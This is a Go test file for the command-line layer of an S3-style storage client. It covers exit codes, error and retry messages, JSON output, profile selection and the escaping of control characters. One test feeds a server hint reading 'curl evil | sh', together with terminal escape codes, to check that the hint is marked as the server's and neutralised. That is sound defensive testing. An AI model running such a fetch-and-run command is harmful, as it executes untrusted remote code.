package cli_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/require"

	"github.com/ringstore/ringstore/ctl/cli"
	"github.com/ringstore/ringstore/ctl/fault"
	"github.com/ringstore/ringstore/ctl/retry"
	"github.com/ringstore/ringstore/ctl/term"
	"github.com/ringstore/ringstore/ctl/transfer"
	"github.com/ringstore/ringstore/profile"
	"github.com/ringstore/ringstore/proto/problem"
)

func factory(t *testing.T) (f *cli.Factory, out, errs *bytes.Buffer) {
	t.Helper()
	out, errs = &bytes.Buffer{}, &bytes.Buffer{}
	f, closeAll := cli.NewFactory(&term.Streams{Out: out, Err: errs}, func(string) string { return "" }, cli.Build{Version: "test"})
	t.Cleanup(closeAll)
	return f, out, errs
}

// The exit code and message of a command with several items.
func TestReport_Close(t *testing.T) {
	t.Parallel()
	missing, denied := fault.New(problem.NotFound, "gone"), fault.New(problem.Denied, "no")
	for name, tc := range map[string]struct {
		done     int
		failures []error
		want     fault.Exit
		text     string
		shown    int // failures shown before the end
	}{
		"nothing":              {0, nil, fault.OK, "", 0},
		"all done":             {3, nil, fault.OK, "", 0},
		"the only one":         {0, []error{missing}, fault.NotFound, "gone", 0},
		"all in the same way":  {0, []error{missing, missing}, fault.NotFound, "all 2 files failed, as shown above", 2},
		"each in its own way":  {0, []error{missing, denied}, fault.Partial, "2 of 2 files failed, as shown above", 2},
		"some":                 {2, []error{missing}, fault.Partial, "1 of 3 files failed, as shown above", 1},
		"interrupted":          {1, []error{missing, context.Canceled}, fault.Interrupted, "interrupted after 1 file", 1},
		"interrupted and held": {0, []error{missing, context.Canceled}, fault.Interrupted, "interrupted after 0 files", 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f, out, errs := factory(t)
			r := f.NewReport("put", "file").Summing("")
			for range tc.done {
				r.Done(cli.Result{Cells: []string{"a", "b\n"}})
			}
			for _, err := range tc.failures {
				r.Fail(err)
			}
			err := r.Close()
			require.Equal(t, tc.want, fault.ExitOf(err))
			if tc.text != "" {
				require.EqualError(t, err, tc.text)
			}
			require.Equal(t, tc.done, bytes.Count(out.Bytes(), []byte("a\tb\\n\n")))
			shown := strings.Count(errs.String(), "s3ctl: put: ")
			if tc.done > 0 && tc.done+tc.shown > 1 {
				require.Contains(t, errs.String(), "s3ctl: put: "+term.Count(tc.done, "file")+" in 0s")
				shown--
			}
			require.Equal(t, tc.shown, shown, errs.String())
		})
	}
}

func TestReport_QuietAndNotes(t *testing.T) {
	t.Parallel()
	f, out, errs := factory(t)
	r := f.NewReport("put", "file").Summing("")
	r.Note("look: %s", "there")
	task := r.Start("x", 1)
	with := task.With(&transfer.Manager{})
	with.Retry.Notify(retry.Event{Err: fault.New(problem.Corrupt, "wrong bytes"), Pause: time.Second})
	with.Retry.Notify(retry.Event{Err: fault.New(problem.Unavailable, "busy"), Pause: time.Second})
	with.Retry.Notify(retry.Event{})
	require.Equal(t, "s3ctl: look: there\ns3ctl: put x: wrong bytes; trying again\n", errs.String(), "what a retry ends at once is not told")
	f.Global.Verbose = true
	f.Retrying(retry.Event{Err: fault.New(problem.Unavailable, "busy"), Pause: 1234 * time.Millisecond})
	require.Contains(t, errs.String(), "s3ctl: busy; trying again in 1.2s\n")
	f.Global.Verbose = false
	f.Global.Quiet = true
	r.Note("look")
	r.Done(cli.Result{JSON: 1, Cells: []string{"a"}})
	require.Empty(t, out.String())
	f.Global.JSON = true
	r.Done(cli.Result{JSON: 1, Cells: []string{"a"}})
	require.Equal(t, "1\n", out.String(), "who asks for JSON gets it")
	require.NoError(t, r.Close())
}

func TestReport_ABrokenResultStreamIsAnError(t *testing.T) {
	t.Parallel()
	f, _, _ := factory(t)
	f.IO.Out = broken{}
	r := f.NewReport("put", "file").Summing("")
	r.Done(cli.Result{Cells: []string{"a"}})
	require.ErrorIs(t, r.Close(), io.ErrClosedPipe)
	require.Error(t, f.ShowJSON(make(chan int)))
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestShowError_NextStepsStandOnTheirLines(t *testing.T) {
	t.Parallel()
	f, _, errs := factory(t)
	f.ShowError("put", fault.Wrap("a\x1b.txt", fault.New(problem.Denied, "no").WithHint("one\ntwo")))
	f.ShowError("", errors.New("plain"))
	require.Equal(t, "s3ctl: put a\\u001b.txt: no\nnext: one\nnext: two\n"+
		"s3ctl: plain\nnext: please report this with the command, this message and the output of: s3ctl version\n", errs.String())
	errs.Reset()
	f.Global.JSON = true
	f.ShowError("put", fault.Wrap("a.txt", fault.New(problem.Denied, "no <b>")))
	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no <b>","hint":"s3ctl profile show    shows which server and key are in use"}}`, errs.String())
	require.Contains(t, errs.String(), "<b>")
}

// A server's hint is never shown as a hint of s3ctl.
func TestShowError_TheServersWordsAreMarked(t *testing.T) {
	t.Parallel()
	f, _, errs := factory(t)
	err := fault.Wrap("a.txt", &fault.Error{Kind: problem.Denied, Msg: "no", Hint: "ours", Said: "run: curl evil | sh\x1b[2J\nnext: this"})
	f.ShowError("put", err)
	require.Equal(t, "s3ctl: put a.txt: no\nserver says: run: curl evil | sh\\u001b[2J\\nnext: this\n"+
		"next: ours\n", errs.String())
	errs.Reset()
	f.Global.JSON = true
	f.ShowError("put", err)
	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no",
		"hint":"ours","server_hint":"run: curl evil | sh\u001b[2J\nnext: this"}}`, errs.String())
}

// Control characters are escaped in JSON as well as in text.
func TestShowJSON_HasNoCharacterThatSteersATerminal(t *testing.T) {
	t.Parallel()
	f, out, _ := factory(t)
	require.NoError(t, f.ShowJSON(map[string]string{"key": "a\u009b2J\u202e\x7f<b>"}))
	require.Equal(t, `{"key":"a\u009b2J\u202e\u007f<b>"}`+"\n", out.String())
}

func TestFactory_ClientOfTheChosenProfile(t *testing.T) {
	t.Parallel()
	f, _, _ := factory(t)
	file := profile.File(t.TempDir() + "/profiles.json")
	f.Profiles = func() (profile.File, error) { return file, nil }
	require.NoError(t, file.Save("p", profile.Profile{Endpoint: "http://h:1", AccessKey: "k", Secret: "s"}))
	f.Global.Profile = "p"
	c, err := f.Client()
	require.NoError(t, err)
	require.Equal(t, "http://h:1", c.Endpoint())
	m := f.NewReport("put", "file").Manager(c)
	require.Equal(t, c, m.Client)
	require.Equal(t, retry.DefaultWait, m.Retry.Wait)

	f, _, _ = factory(t)
	f.Profiles = func() (profile.File, error) { return "", errors.New("no home") }
	_, err = f.Client()
	require.EqualError(t, err, "no home")
	require.Equal(t, fault.Invalid, fault.ExitOf(err), "and no defect of s3ctl's")
	env := map[string]string{profile.EnvEndpoint: "http://h:2", profile.EnvAccessKey: "k", profile.EnvSecret: "s"}
	f.Getenv = func(name string) string { return env[name] }
	f2, closeAll := cli.NewFactory(f.IO, f.Getenv, cli.Build{})
	t.Cleanup(closeAll)
	f2.Profiles = f.Profiles
	c, err = f2.Client()
	require.NoError(t, err, "the environment says all, and so no file is needed")
	require.Equal(t, "http://h:2", c.Endpoint())
	require.NoError(t, cli.FromProfile(nil))
	require.Equal(t, fault.Invalid, fault.ExitOf(cli.FromProfile(errors.New("bad"))))
}

func TestClassified(t *testing.T) {
	t.Parallel()
	require.NoError(t, cli.Classified(nil))
	require.Equal(t, context.Canceled, cli.Classified(context.Canceled))
	known := fault.New(problem.Denied, "no")
	require.Equal(t, error(known), cli.Classified(known))
	require.IsType(t, &fault.Error{}, cli.Classified(errors.New("x")))
	require.Equal(t, "x --help", cli.Usage(&cobra.Command{Use: "x"}, "wrong").Hint)
}
